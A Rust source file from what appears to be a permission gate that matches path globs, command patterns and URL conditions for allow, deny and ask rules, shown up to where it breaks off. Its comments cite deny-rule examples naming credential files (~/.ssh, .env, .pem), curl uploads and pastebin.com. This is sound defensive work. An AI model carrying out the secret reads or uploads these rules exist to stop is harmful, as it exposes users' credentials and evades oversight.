//! Resource conditions of rules: `path` globs, `command` prefixes, and URL conditions (`domain`,
//! `scheme`, `port`, `address`).
//!
//! Allow rules match strictly — the path as it resolves, the command that finally runs from its
//! first word — and deny and ask rules match widely: any reading of a path (resolved, unresolved,
//! case and Unicode folded), the command pattern anywhere in any wrapper layer, a program given as
//! a path by its basename, and resources a command only mentions.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use globset::{GlobBuilder, GlobSet, GlobSetBuilder};
use unicode_normalization::UnicodeNormalization;

use crate::resource::shell::programs;
use crate::resource::shell::registry;
use crate::resource::shell::{CommandReading, Word};
use crate::resource::url::{AddressClass, DomainPattern, in_class};
use crate::subject::{CommandSubject, PathSubject, UrlSubject};

/// One `path` glob, as written and as it will be compiled.
#[derive(Clone, Debug)]
pub(crate) struct PathGlob {
    pub(crate) text: String,
    /// The pattern to compile (`~/` expanded, `./` and trailing `/` removed).
    pattern: String,
    /// Absolute (`/etc/**`, `~/.ssh/**`): matched on the whole path. Otherwise anchored at the
    /// workspace root the path is in.
    absolute: bool,
    /// Starts with `**/`: also matched on the whole path (when it is outside every root).
    any_depth: bool,
    /// The longest run of plain characters in one folder of the pattern (`.env` in `**/.env`,
    /// `.pem` in `**/*.pem`): a path that matches holds it, so a path that does not hold it is
    /// known not to match without compiling the glob.
    literal: Option<String>,
}

impl PathGlob {
    /// Checks a glob (`*` stays within one folder, `**` crosses folders). `home` expands `~/`.
    pub(crate) fn new(text: &str, home: Option<&Path>) -> Result<PathGlob, String> {
        let glob = PathGlob::read(text, home)?;
        glob.compile(false)?;
        Ok(glob)
    }

    /// A glob whose syntax is not checked now (text that loaded before with it checked): a
    /// glob that does not parse fails when its matcher is compiled, and the matcher then
    /// answers the safe way ([`PathMatcher::is_match`]).
    pub(crate) fn unchecked(text: &str, home: Option<&Path>) -> Result<PathGlob, String> {
        PathGlob::read(text, home)
    }

    fn read(text: &str, home: Option<&Path>) -> Result<PathGlob, String> {
        let trimmed = text.trim();
        if trimmed.is_empty() {
            return Err("a path pattern cannot be empty".into());
        }
        let expanded = match trimmed.strip_prefix("~/") {
            Some(rest) => match home {
                Some(home) => format!("{}/{rest}", home.display()),
                None => return Err("`~` cannot be expanded: the home folder is unknown".into()),
            },
            None => trimmed.to_owned(),
        };
        let absolute = expanded.starts_with('/');
        let pattern = expanded
            .trim_start_matches("./")
            .trim_end_matches('/')
            .to_owned();
        let glob = PathGlob {
            text: text.to_owned(),
            any_depth: pattern.starts_with("**/"),
            absolute,
            literal: longest_literal(&pattern),
            pattern,
        };
        Ok(glob)
    }

    /// Whether a path (as text) may match: `false` only when it cannot. Folded, only an ASCII
    /// literal in an ASCII path is compared (ignoring ASCII case): Unicode case folding pairs
    /// letters lowercasing does not (`ſ` and `s`, `K` and `k`).
    fn may_match(&self, path: &str, fold: bool) -> bool {
        let Some(literal) = &self.literal else {
            return true;
        };
        if !fold {
            return path.contains(literal.as_str());
        }
        if !path.is_ascii() || !literal.is_ascii() {
            return true;
        }
        let (path, literal) = (path.as_bytes(), literal.as_bytes());
        path.windows(literal.len())
            .any(|w| w.eq_ignore_ascii_case(literal))
    }

    fn compile(&self, fold: bool) -> Result<globset::Glob, String> {
        let pattern: String = if fold {
            self.pattern.nfc().collect()
        } else {
            self.pattern.clone()
        };
        GlobBuilder::new(&pattern)
            .literal_separator(true)
            .backslash_escape(true)
            .empty_alternates(true)
            .case_insensitive(fold)
            .build()
            .map_err(|e| {
                let kind = e.kind().to_string();
                format!(
                    "invalid glob: {}{}",
                    kind.get(..1).unwrap_or("").to_lowercase(),
                    kind.get(1..).unwrap_or("")
                )
            })
    }
}

/// The longest run of characters a glob matches only as themselves, within one folder: outside
/// `*`, `?`, `[…]` and `{…}`, `\\` escapes read as the character they escape. `None` when there is
/// none (`*`, `**/*`), and for a glob that would not parse (an unclosed `[` or `{`, a nested
/// `{`, a `}` without its `{`, a range backwards, a dangling `\\`): such a glob is left to the
/// compiler, whose failure is answered the safe way.
fn longest_literal(pattern: &str) -> Option<String> {
    let mut best = String::new();
    let mut run = String::new();
    let mut chars = pattern.chars();
    let end_run = |run: &mut String, best: &mut String| {
        // On a tie the later one: the last folders are the more telling (`.ssh`, not `home`).
        if !run.is_empty() && run.len() >= best.len() {
            *best = std::mem::take(run);
        } else {
            run.clear();
        }
    };
    while let Some(c) = chars.next() {
        match c {
            '\\' => run.push(chars.next()?),
            '*' | '?' | '/' => end_run(&mut run, &mut best),
            '}' => return None,
            '[' => {
                end_run(&mut run, &mut best);
                // A class: after its negation, a `]` first in it is a member.
                let mut rest = chars.clone();
                if matches!(rest.next(), Some('!' | '^')) {
                    chars.next();
                }
                let mut members: Vec<char> = Vec::new();
                loop {
                    let member = match chars.next()? {
                        ']' if !members.is_empty() => break,
                        '\\' => chars.next()?,
                        c => c,
                    };
                    // `a-z`: the range's end is no smaller than its start.
                    if members.len() >= 2
                        && members.last() == Some(&'-')
                        && members.get(members.len() - 2).is_some_and(|s| *s > member)
                    {
                        return None;
                    }
                    members.push(member);
                }
            }
            '{' => {
                end_run(&mut run, &mut best);
                loop {
                    match chars.next()? {
                        '}' => break,
                        '{' => return None,
                        '\\' => {
                            chars.next()?;
                        }
                        _ => {}
                    }
                }
            }
            c => run.push(c),
        }
    }
    end_run(&mut run, &mut best);
    (!best.is_empty()).then_some(best)
}

/// One folder of a glob, to tell whether the glob can match something inside a folder.
#[derive(Clone, Debug)]
enum Part {
    /// `**`: any number of folders.
    AnyDepth,
    /// One name.
    One(globset::GlobMatcher),
}

/// A glob split into its folders, to tell whether it can match something inside a folder;
/// `None` for one whose folders cannot be told apart (a `/` inside `{…}` or `[…]`).
#[derive(Clone, Debug)]
struct Placed {
    /// The glob as written.
    text: String,
    absolute: bool,
    /// It started with `**/` (which is not in `parts`).
    any_depth: bool,
    parts: Vec<Part>,
}

impl Placed {
    fn new(glob: &PathGlob, fold: bool) -> Result<Option<Placed>, String> {
        let mut pattern = glob.pattern.trim_start_matches('/');
        let mut any_depth = false;
        while let Some(rest) = pattern.strip_prefix("**/") {
            pattern = rest;
            any_depth = true;
        }
        if pattern == "**" || pattern.is_empty() {
            // Everything: matched as it is, never only inside.
            return Ok(None);
        }
        let Some(components) = components(pattern) else {
            return Ok(None);
        };
        let mut parts = Vec::with_capacity(components.len());
        for component in components {
            if component == "**" {
                parts.push(Part::AnyDepth);
                continue;
            }
            let text: String = if fold {
                component.nfc().collect()
            } else {
                component.to_owned()
            };
            let matcher = GlobBuilder::new(&text)
                .literal_separator(true)
                .backslash_escape(true)
                .empty_alternates(true)
                .case_insensitive(fold)
                .build()
                .map_err(|e| format!("invalid glob: {e}"))?
                .compile_matcher();
            parts.push(Part::One(matcher));
        }
        Ok(Some(Placed {
            text: glob.text.clone(),
            absolute: glob.absolute,
            any_depth,
            parts,
        }))
    }

    /// Whether something inside the folder whose names are `folder` can match. A glob that
    /// names things by their place (`~/.ssh/**`) can match inside the folders on its way; one
    /// that matches at any depth (`**/.git/**`) only inside a folder that is, or is in, what it
    /// names (`.git`, `.git/hooks`): any folder might hold a `.git`, and toolgate does not look.
    fn inside(&self, folder: &[&str]) -> bool {
        fn holds(parts: &[Part], folder: &[&str]) -> bool {
            match parts.split_first() {
                None => false,
                // `**` takes the rest of the folder, and then whatever lies inside it.
                Some((Part::AnyDepth, _)) => true,
                Some((Part::One(matcher), rest)) => match folder.split_first() {
                    // The folder is named whole: what is inside it can match the rest.
                    None => true,
                    Some((name, more)) => matcher.is_match(name) && holds(rest, more),
                },
            }
        }
        if self.any_depth {
            // Each start takes at least one of the folder's names.
            (0..folder.len()).any(|i| folder.get(i..).is_some_and(|f| holds(&self.parts, f)))
        } else {
            holds(&self.parts, folder)
        }
    }
}

/// A glob's folders (split at `/`), or `None` when a `/` is inside `{…}` or `[…]`.
fn components(pattern: &str) -> Option<Vec<&str>> {
    let mut out = Vec::new();
    let (mut start, mut braces, mut bracket, mut escaped) = (0, 0usize, false, false);
    for (i, c) in pattern.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match c {
            '\\' => escaped = true,
            '[' if !bracket => bracket = true,
            ']' if bracket => bracket = false,
            '{' if !bracket => braces += 1,
            '}' if !bracket => braces = braces.saturating_sub(1),
            '/' if bracket || braces > 0 => return None,
            '/' => {
                out.push(pattern.get(start..i)?);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(pattern.get(start..)?);
    Some(out.into_iter().filter(|c| !c.is_empty()).collect())
}

/// Path globs compiled into sets: exact and folded (case and Unicode normalisation), each for
/// paths relative to a root, whole paths, and `**/` patterns anywhere.
///
/// Each variant is compiled the first time a path is matched against it: a hook process decides
/// one call and consults few of its policy's matchers, and compiling every glob of a policy into
/// regular expressions at load was most of its time. The globs were checked when they were
/// read; compiling them can still fail (a set too large for the regex engine), and a matcher
/// that could not be compiled answers the safe way for its use — see [`PathMatcher::is_match`].
#[derive(Clone, Debug)]
pub(crate) struct PathMatcher {
    pub(crate) globs: Vec<PathGlob>,
    sets: [OnceLock<Option<Sets>>; 2],
    /// The globs that name things by their place, exact and folded.
    placed: [OnceLock<Option<Vec<Placed>>>; 2],
}

#[derive(Clone, Debug, Default)]
struct Sets {
    relative: Option<GlobSet>,
    absolute: Option<GlobSet>,
    any_depth: Option<GlobSet>,
}

impl Sets {
    fn build(globs: &[PathGlob], fold: bool) -> Result<Sets, String> {
        let mut relative = GlobSetBuilder::new();
        let mut absolute = GlobSetBuilder::new();
        let mut any_depth = GlobSetBuilder::new();
        let (mut r, mut a, mut d) = (false, false, false);
        for g in globs {
            let compiled = g.compile(fold)?;
            if g.absolute {
                absolute.add(compiled);
                a = true;
            } else {
                if g.any_depth {
                    any_depth.add(compiled.clone());
                    d = true;
                }
                relative.add(compiled);
                r = true;
            }
        }
        let finish = |used: bool, b: GlobSetBuilder| -> Result<Option<GlobSet>, String> {
            if used {
                b.build().map(Some).map_err(|e| e.to_string())
            } else {
                Ok(None)
            }
        };
        Ok(Sets {
            relative: finish(r, relative)?,
            absolute: finish(a, absolute)?,
            any_depth: finish(d, any_depth)?,
        })
    }
}

impl PathMatcher {
    /// A matcher of these globs (each checked by [`PathGlob::new`]); compiled when first used.
    pub(crate) fn new(globs: Vec<PathGlob>) -> PathMatcher {
        PathMatcher {
            globs,
            sets: Default::default(),
            placed: Default::default(),
        }
    }

    /// Compiles both variants now (a long-running process compiles at load, so that the first
    /// call does not pay for it). Returns the first error.
    pub(crate) fn compile(&self) -> Result<(), String> {
        for fold in [false, true] {
            if self.sets(fold).is_none() {
                return Err(Sets::build(&self.globs, fold)
                    .err()
                    .unwrap_or_else(|| "the globs could not be compiled".into()));
            }
            if self.placed(fold).is_none() {
                return Err("the globs' folders could not be compiled".into());
            }
        }
        Ok(())
    }

    /// The compiled sets of one variant; `None` when they could not be compiled.
    fn sets(&self, fold: bool) -> Option<&Sets> {
        let [exact, folded] = &self.sets;
        let cell = if fold { folded } else { exact };
        cell.get_or_init(|| Sets::build(&self.globs, fold).ok())
            .as_ref()
    }

    /// The globs split into folders, of one variant; `None` when they could not be compiled.
    fn placed(&self, fold: bool) -> Option<&[Placed]> {
        let [exact, folded] = &self.placed;
        let cell = if fold { folded } else { exact };
        cell.get_or_init(|| {
            let mut out = Vec::new();
            for glob in &self.globs {
                out.extend(Placed::new(glob, fold).ok()?);
            }
            Some(out)
        })
        .as_deref()
    }

    /// Whether a glob can match something inside the folder `path` (`~/.ssh/**` inside
    /// `~/.ssh` or `~`; `**/.git/**` inside `.git`): relative globs inside the path relative to
    /// each root it is under, absolute ones and `**/` ones inside the whole path.
    pub(crate) fn holds_inside(&self, path: &Path, roots: &[PathBuf], fold: bool) -> bool {
        self.reaching_inside(path, roots, fold).is_some()
    }

    /// The first glob (as written) that can match something inside the folder `path`.
    pub(crate) fn reaching_inside(
        &self,
        path: &Path,
        roots: &[PathBuf],
        fold: bool,
    ) -> Option<&str> {
        let Some(placed) = self.placed(fold) else {
            // Not compiled: every glob may reach inside (this serves deny and ask rules).
            return self.globs.first().map(|g| g.text.as_str());
        };
        if placed.is_empty() {
            return None;
        }
        let names = |path: &Path| -> Vec<String> {
            path.components()
                .filter_map(|c| match c {
                    std::path::Component::Normal(name) => {
                        let name = name.to_string_lossy();
                        Some(if fold && !name.is_ascii() {
                            name.nfc().collect()
                        } else {
                            name.into_owned()
                        })
                    }
                    _ => None,
                })
                .collect()
        };
        let whole = names(path);
        let whole: Vec<&str> = whole.iter().map(String::as_str).collect();
        let relative: Vec<Vec<String>> = roots
            .iter()
            .filter_map(|root| path.strip_prefix(root).ok())
            .map(names)
            .collect();
        placed
            .iter()
            .find(|p| {
                if p.absolute || p.any_depth {
                    p.inside(&whole)
                } else {
                    relative.iter().any(|rest| {
                        let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
                        p.inside(&rest)
                    })
                }
            })
            .map(|p| p.text.as_str())
    }

    /// Whether `path` matches: relative globs on the path relative to each root it is under,
    /// absolute globs on the whole path, `**/` globs also on the whole path. A matcher that
    /// could not be compiled matches (what it keeps out stays out): for a match that loosens,
    /// use [`PathMatcher::is_match_loosening`].
    pub(crate) fn is_match(&self, path: &Path, roots: &[PathBuf], fold: bool) -> bool {
        self.try_match(path, roots, fold).unwrap_or(true)
    }

    /// Whether `path` matches, for a match that lets something through (an allow rule, a
    /// read-only or scratch place): a matcher that could not be compiled does not match.
    pub(crate) fn is_match_loosening(&self, path: &Path, roots: &[PathBuf], fold: bool) -> bool {
        self.try_match(path, roots, fold).unwrap_or(false)
    }

    fn try_match(&self, path: &Path, roots: &[PathBuf], fold: bool) -> Option<bool> {
        let whole = path.to_string_lossy();
        // Relative globs match a part of the whole path: a literal missing from the whole is
        // missing from every part.
        if !self.globs.iter().any(|g| g.may_match(&whole, fold)) {
            return Some(false);
        }
        let sets = self.sets(fold)?;
        let prepare = |text: &str| -> String {
            if fold && !text.is_ascii() {
                text.nfc().collect()
            } else {
                text.to_owned()
            }
        };
        if let Some(set) = &sets.absolute
            && set.is_match(prepare(&whole))
        {
            return Some(true);
        }
        if let Some(set) = &sets.relative {
            for root in roots {
                if let Ok(rest) = path.strip_prefix(root)
                    && set.is_match(prepare(&rest.to_string_lossy()))
                {
                    return Some(true);
                }
            }
        }
        Some(
            sets.any_depth
                .as_ref()
                .is_some_and(|set| set.is_match(prepare(whole.trim_start_matches('/')))),
        )
    }

    /// Matches ignoring case and Unicode normalisation (for protected paths).
    pub(crate) fn matches_folded(&self, path: &Path, roots: &[PathBuf]) -> bool {
        self.is_match(path, roots, true)
    }
}

/// The `path` condition: any of the globs.
#[derive(Clone, Debug)]
pub(crate) struct PathSet {
    pub(crate) matcher: PathMatcher,
}

impl PathSet {
    /// Allow rules: every reading the filesystem could act on matches (exactly). Deny and ask
    /// rules: any reading matches, also after folding case and Unicode.
    pub(crate) fn matches(&self, subject: &PathSubject, roots: &[PathBuf], loosens: bool) -> bool {
        let Some(r) = &subject.resolved else {
            return false;
        };
        let m = &self.matcher;
        if loosens {
            m.is_match_loosening(&r.resolved, roots, false)
                && r.alternative
                    .as_deref()
                    .is_none_or(|a| m.is_match_loosening(a, roots, false))
        } else {
            let mut seen: Vec<&Path> = Vec::with_capacity(3);
            r.readings().any(|p| {
                if seen.contains(&p) {
                    return false;
                }
                seen.push(p);
                m.is_match(p, roots, false)
                    || m.is_match(p, roots, true)
                    // A folder read or changed with everything inside it.
                    || subject.recursive
                        && (m.holds_inside(p, roots, false) || m.holds_inside(p, roots, true))
            })
        }
    }

    /// For a reason: the glob that reaches inside a folder read or changed whole, when the
    /// folder itself does not match (deny and ask rules).
    pub(crate) fn reaching_inside(&self, subject: &PathSubject, roots: &[PathBuf]) -> Option<&str> {
        let r = subject.resolved.as_ref().filter(|_| subject.recursive)?;
        let m = &self.matcher;
        if r.readings()
            .any(|p| m.is_match(p, roots, false) || m.is_match(p, roots, true))
        {
            return None;
        }
        r.readings().find_map(|p| {
            m.reaching_inside(p, roots, false)
                .or_else(|| m.reaching_inside(p, roots, true))
        })
    }

    pub(crate) fn describe(&self) -> String {
        crate::matcher::describe_list(self.matcher.globs.iter().map(|g| g.text.as_str()))
    }

    /// Whether every path `other` matches, `self` matches (sound, not complete).
    pub(crate) fn covers(&self, other: &PathSet) -> bool {
        other.matcher.globs.iter().all(|o| {
            self.matcher
                .globs
                .iter()
                .any(|s| s.text == o.text || s.text == "**" || s.text == "**/*" && !o.absolute)
        })
    }
}

/// One word of a command pattern: alternatives, or `*` for any word.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Token {
    Any,
    OneOf(Vec<String>),
}

impl Token {
    fn is_match(&self, word: &Word, by_basename: bool) -> bool {
        let Some(value) = word.value() else {
            return false;
        };
        match self {
            Token::Any => true,
            Token::OneOf(options) => options.iter().any(|o| {
                o == value
                    || by_basename
                        && !o.contains('/')
                        && value.rsplit('/').next() == Some(o.as_str())
            }),
        }
    }

    fn covers(&self, other: &Token) -> bool {
        match (self, other) {
            (Token::Any, _) => true,
            (Token::OneOf(_), Token::Any) => false,
            (Token::OneOf(a), Token::OneOf(b)) => b.iter().all(|x| a.contains(x)),
        }
    }
}

/// A `command` pattern: a prefix of words (`git status`, `git {log,show}`, `npm run *`).
#[derive(Clone, Debug)]
pub(crate) struct CommandPattern {
    pub(crate) text: String,
    pub(crate) tokens: Vec<Token>,
    /// The pattern read as the program reads its arguments, once per combination of its
    /// alternatives: what deny and ask rules compare commands with. Read when first needed (a
    /// process that decides one call needs few).
    readings: OnceLock<Vec<PatternReading>>,
}

impl PartialEq for CommandPattern {
    fn eq(&self, other: &CommandPattern) -> bool {
        // The readings follow from the tokens.
        self.text == other.text && self.tokens == other.tokens
    }
}

impl Eq for CommandPattern {}

/// A command pattern read with its program's record.
#[derive(Clone, Debug, PartialEq, Eq)]
struct PatternReading {
    /// The program as written in the pattern.
    program: String,
    subcommands: Vec<&'static str>,
    /// Options by their names (`-rf` → `--recursive`, `--force`).
    options: Vec<String>,
    /// Options the record does not know, as written: matched as words.
    words: Vec<String>,
    /// Operands in order; `None` for `*`.
    operands: Vec<Option<String>>,
    /// Whether the pattern names more than its program.
    more: bool,
}

/// The most combinations of a pattern's alternatives read for deny and ask rules.
const MAX_PATTERN_READINGS: usize = 64;

/// The pattern's readings: each combination of its alternatives, read with the record of the
/// program it names.
fn pattern_readings(tokens: &[Token]) -> Vec<PatternReading> {
    let mut combinations: Vec<Vec<Option<&str>>> = vec![Vec::new()];
    for token in tokens {
        let choices: Vec<Option<&str>> = match token {
            Token::Any => vec![None],
            Token::OneOf(options) => options.iter().map(|o| Some(o.as_str())).collect(),
        };
        if combinations.len().saturating_mul(choices.len()) > MAX_PATTERN_READINGS {
            return Vec::new();
        }
        combinations = combinations
            .iter()
            .flat_map(|c| {
                choices.iter().map(move |choice| {
                    let mut next = c.clone();
                    next.push(*choice);
                    next
                })
            })
            .collect();
    }
    const ANY: &str = "\u{0}*";
    combinations
        .into_iter()
        .filter_map(|words| {
            let program = (*words.first()?)?;
            let args: Vec<&str> = words.iter().skip(1).map(|w| w.unwrap_or(ANY)).collect();
            let reading = crate::resource::shell::registry::read(program, &args);
            let mut options: Vec<String> =
                reading.given.iter().map(|g| g.name.to_string()).collect();
            options.sort();
            options.dedup();
            Some(PatternReading {
                program: program.to_owned(),
                subcommands: reading.sub_words.clone(),
                options,
                words: reading
                    .unknown_options
                    .iter()
                    .map(|w| (*w).to_owned())
                    .collect(),
                operands: reading
                    .operand_texts()
                    .into_iter()
                    .map(|o| (o != ANY).then(|| o.to_owned()))
                    .collect(),
                more: words.len() > 1,
            })
        })
        .collect()
}

impl PatternReading {
    /// Whether a command (one layer of it: the argv, and its reading when known) runs what
    /// this pattern names.
    fn matches(&self, argv: &[Word], known: Option<&CommandReading>) -> bool {
        let Some(program) = argv.first().and_then(Word::value) else {
            return false;
        };
        let name = programs::basename(program);
        let same = name == self.program
            || registry::find(name).is_some_and(|r| {
                r.names.contains(&self.program.as_str())
                    && registry::find(&self.program).is_some_and(|p| std::ptr::eq(p, r))
            });
        if !same {
            return false;
        }
        if !self.more {
            return true;
        }
        let read;
        let reading = match known {
            Some(r) => r,
            None => {
                let words: Vec<&str> = argv
                    .iter()
                    .skip(1)
                    .map(|w| w.value().unwrap_or(w.text.as_str()))
                    .collect();
                read = CommandReading::of(&registry::read(program, &words));
                &read
            }
        };
        let subs = self.subcommands.len() <= reading.subcommands.len()
            && self
                .subcommands
                .iter()
                .zip(&reading.subcommands)
                .all(|(a, b)| a == b);
        let by_act = self
            .subcommands
            .first()
            .is_some_and(|s| reading.acts.contains(s));
        if !(subs || by_act) {
            return false;
        }
        // A program without subcommands names what it does as the pattern's first operand
        // (`curl upload`).
        let act_operand = self.subcommands.is_empty()
            && self
                .operands
                .first()
                .and_then(Option::as_deref)
                .is_some_and(|a| reading.acts.contains(&a));
        if !self.options.iter().all(|o| reading.options.contains(o)) {
            return false;
        }
        let written: Vec<&str> = argv.iter().skip(1).filter_map(Word::value).collect();
        if !self.words.iter().all(|w| written.contains(&w.as_str())) {
            return false;
        }
        // Operands in order, `*` standing for any one.
        let mut operands = reading.operands.iter();
        let wanted_operands = self
            .operands
            .get(usize::from(act_operand)..)
            .unwrap_or_default();
        wanted_operands.iter().all(|wanted| match wanted {
            None => operands.next().is_some(),
            Some(w) => operands.any(|o| o == w),
        })
    }
}

impl CommandPattern {
    /// Parses `git {status,log} *`: words separated by spaces, `{a,b}` alternatives, `*` any word.
    pub(crate) fn parse(text: &str) -> Result<CommandPattern, String> {
        let mut tokens = Vec::new();
        for word in text.split_whitespace() {
            if word == "*" {
                tokens.push(Token::Any);
            } else if let Some(inner) = word.strip_prefix('{').and_then(|w| w.strip_suffix('}')) {
                let options: Vec<String> = inner.split(',').map(str::to_owned).collect();
                if options.iter().any(String::is_empty) {
                    return Err(format!("`{word}` has an empty alternative"));
                }
                tokens.push(Token::OneOf(options));
            } else {
                tokens.push(Token::OneOf(vec![word.to_owned()]));
            }
        }
        if tokens.is_empty() {
            return Err("a command pattern cannot be empty".into());
        }
        if tokens.first() == Some(&Token::Any) {
            return Err(format!("`{text}` starts with `*`: name the program"));
        }
        Ok(CommandPattern {
            text: text.to_owned(),
            readings: OnceLock::new(),
            tokens,
        })
    }

    /// From an array form: `["git", ["status", "log"]]`.
    pub(crate) fn from_tokens(tokens: Vec<Vec<String>>) -> Result<CommandPattern, String> {
        let text = tokens
            .iter()
            .map(|t| {
                if t.len() == 1 {
                    t.join("")
                } else {
                    format!("{{{}}}", t.join(","))
                }
            })
            .collect::<Vec<_>>()
            .join(" ");
        let tokens: Vec<Token> = tokens
            .into_iter()
            .map(|t| {
                if t == ["*"] {
                    Token::Any
                } else {
                    Token::OneOf(t)
                }
            })
            .collect();
        if tokens.is_empty() || tokens.first() == Some(&Token::Any) {
            return Err(format!("`{text}` must start with a program name"));
        }
        Ok(CommandPattern {
            text,
            readings: OnceLock::new(),
            tokens,
        })
    }

    /// Whether the command that runs starts with the pattern (the program named exactly).
    pub(crate) fn is_allowed_prefix(&self, argv: &[Word]) -> bool {
        self.is_prefix_of(argv)
    }

    /// Allow rules: the command that runs starts with the pattern, program name exactly (git's
    /// own options before its subcommand aside: `git --no-pager log` is `git log`).
    ///
    /// A program run from a `bin` folder (a virtualenv's `.venv/bin/pytest`, `node_modules/.bin/
    /// vite`, a toolchain's) is that program to the pattern: a project's own copy of a tool.
    fn is_prefix_of(&self, argv: &[Word]) -> bool {
        let starts = |argv: &[Word]| -> bool {
            argv.len() >= self.tokens.len()
                && self.tokens.iter().zip(argv).enumerate().all(|(i, (t, w))| {
                    let in_bin = i == 0
                        && w.value().is_some_and(|v| {
                            let mut parts = v.rsplit('/');
                            parts.next();
                            matches!(parts.next(), Some("bin" | ".bin"))
                        });
                    t.is_match(w, in_bin)
                })
        };
        starts(argv)
            || programs::without_global_options(argv, false).is_some_and(|a| starts(a.as_slice()))
    }

    /// Deny and ask rules: the pattern names the program that runs — in any wrapper layer
    /// (`sudo curl`), by a path to it (`/usr/bin/curl`) or another name of the same program
    /// (`gtar` for `tar`) — never a word a program is given (`grep curl src`). Its other words
    /// are read as the program reads its own: a subcommand by its name or what it does (`git
    /// send-pack` pushes), options in any spelling (`-fr` is `-r -f`, `--force`, abbreviated,
    /// after the operands), operands in order.
    fn appears_in(
        &self,
        wrappers: &[Vec<Word>],
        argv: &[Word],
        reading: Option<&CommandReading>,
    ) -> bool {
        let readings = self.readings.get_or_init(|| pattern_readings(&self.tokens));
        if readings.is_empty() {
            // Too many alternatives to read one by one: the words, anywhere in a layer.
            return wrappers
                .iter()
                .map(Vec::as_slice)
                .chain(std::iter::once(argv))
                .any(|layer| {
                    (0..layer.len()).any(|start| {
                        layer.get(start..).is_some_and(|rest| {
                            rest.len() >= self.tokens.len()
                                && self
                                    .tokens
                                    .iter()
                                    .zip(rest)
                                    .all(|(t, w)| t.is_match(w, true))
                        })
                    })
                });
        }
        readings.iter().any(|p| {
            wrappers.iter().any(|layer| p.matches(layer, None)) || p.matches(argv, reading)
        })
    }

    fn covers(&self, other: &CommandPattern) -> bool {
        self.tokens.len() <= other.tokens.len()
            && self
                .tokens
                .iter()
                .zip(&other.tokens)
                .all(|(a, b)| a.covers(b))
    }
}

/// The `command` condition: any of the patterns.
#[derive(Clone, Debug)]
pub(crate) struct CommandSet {
    pub(crate) patterns: Vec<CommandPattern>,
}

impl CommandSet {
    pub(crate) fn matches(&self, subject: &CommandSubject, loosens: bool) -> bool {
        if loosens {
            // An interpreter running a module (`python3 -m pytest`) is the command as written
            // too: the module's command is read whole all the same.
            // Only a module (`-m`): a shell's `-c` line was read into commands of its own, which
            // `bash` allowed does not cover.
            let module = subject.command.wrappers.last().filter(|layer| {
                layer
                    .first()
                    .and_then(Word::value)
                    .and_then(registry::find)
                    .is_some_and(|p| p.interpreter)
                    && layer.iter().skip(1).any(|w| w.value() == Some("-m"))
            });
            self.patterns.iter().any(|p| {
                p.is_prefix_of(&subject.command.argv) || module.is_some_and(|m| p.is_prefix_of(m))
            })
        } else {
            self.patterns.iter().any(|p| {
                p.appears_in(
                    &subject.command.wrappers,
                    &subject.command.argv,
                    subject.command.reading.as_ref(),
                )
            })
        }
    }

    pub(crate) fn describe(&self) -> String {
        crate::matcher::describe_list(self.patterns.iter().map(|p| p.text.as_str()))
    }

    pub(crate) fn covers(&self, other: &CommandSet) -> bool {
        other
            .patterns
            .iter()
            .all(|o| self.patterns.iter().any(|s| s.covers(o)))
    }
}

/// URL conditions; every one present must hold.
#[derive(Clone, Debug, Default)]
pub(crate) struct UrlConditions {
    pub(crate) domains: Option<Vec<DomainPattern>>,
    pub(crate) schemes: Option<Vec<String>>,
    pub(crate) ports: Option<Vec<u16>>,
    pub(crate) addresses: Option<Vec<AddressClass>>,
}

impl UrlConditions {
    /// Whether a URL meets every condition. A deny or ask rule's `domain` covers the domain's
    /// subdomains too (`pastebin.com` stops `www.pastebin.com`); an allow rule's (`loosens`)
    /// is exact unless written `*.`, and lets through only `http` and `https` unless it names
    /// the scheme (`ftp://docs.rs/` is not a documentation read).
    pub(crate) fn matches(&self, subject: &UrlSubject, loosens: bool) -> bool {
        let Some(url) = &subject.checked else {
            return false;
        };
        let web = matches!(url.scheme.as_str(), "http" | "https");
        if loosens && self.schemes.is_none() && self.domains.is_some() && !web {
            return false;
        }
        self.domains.as_ref().is_none_or(|d| {
            d.iter()
                .any(|p| p.is_match(&url.host) || (!loosens && p.covers_subdomain(&url.host)))
        }) && self
            .schemes
            .as_ref()
            .is_none_or(|s| s.contains(&url.scheme))
            && self
                .ports
                .as_ref()
                .is_none_or(|p| url.port.is_some_and(|port| p.contains(&port)))
            && self
                .addresses
                .as_ref()
                .is_none_or(|a| a.iter().any(|c| in_class(url, *c)))
    }

    pub(crate) fn describe(&self) -> String {
        let mut parts = Vec::new();
        if let Some(d) = &self.domains {
            let texts: Vec<String> = d.iter().map(DomainPattern::text).collect();
            parts.push(format!(
                "domain {}",
                crate::matcher::describe_list(texts.iter().map(String::as_str))
            ));
        }
        if let Some(s) = &self.schemes {
            parts.push(format!(
                "scheme {}",
                crate::matcher::describe_list(s.iter().map(String::as_str))
            ));
        }
        if let Some(p) = &self.ports {
            let texts: Vec<String> = p.iter().map(u16::to_string).collect();
            parts.push(format!(
                "port {}",
                crate::matcher::describe_list(texts.iter().map(String::as_str))
            ));
        }
        if let Some(a) = &self.addresses {
            parts.push(format!(
                "address {}",
                crate::matcher::describe_list(a.iter().map(|c| c.as_str()))
            ));
        }
        parts.join(" and ")
    }

    pub(crate) fn covers(&self, other: &UrlConditions) -> bool {
        let domains = match (&self.domains, &other.domains) {
            (None, _) => true,
            (Some(_), None) => false,
            (Some(a), Some(b)) => b.iter().all(|o| a.iter().any(|s| s.covers(o))),
        };
        fn subset<T: PartialEq>(a: &Option<Vec<T>>, b: &Option<Vec<T>>) -> bool {
            match (a, b) {
                (None, _) => true,
                (Some(_), None) => false,
                (Some(a), Some(b)) => b.iter().all(|x| a.contains(x)),
            }
        }
        domains
            && subset(&self.schemes, &other.schemes)
            && subset(&self.ports, &other.ports)
            && subset(&self.addresses, &other.addresses)
    }
}

/// A rule's resource condition: one kind per rule.
#[derive(Clone, Debug)]
pub(crate) enum Resource {
    Path(PathSet),
    Command(CommandSet),
    Url(UrlConditions),
}

impl Resource {
    pub(crate) const fn kind(&self) -> &'static str {
        match self {
            Resource::Path(_) => "path",
            Resource::Command(_) => "command",
            Resource::Url(_) => "url",
        }
    }

    pub(crate) fn describe(&self) -> String {
        match self {
            Resource::Path(p) => format!("path {}", p.describe()),
            Resource::Command(c) => format!("command {}", c.describe()),
            Resource::Url(u) => u.describe(),
        }
    }

